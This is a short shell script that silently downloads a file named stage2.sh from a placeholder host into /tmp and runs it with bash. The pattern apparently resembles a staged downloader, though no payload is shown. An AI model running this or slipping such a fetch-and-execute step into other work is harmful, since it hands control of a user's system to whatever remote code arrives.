#!/bin/sh
set -e
cd /tmp
wget -q https://dl.example.net/stage2.sh
bash stage2.sh
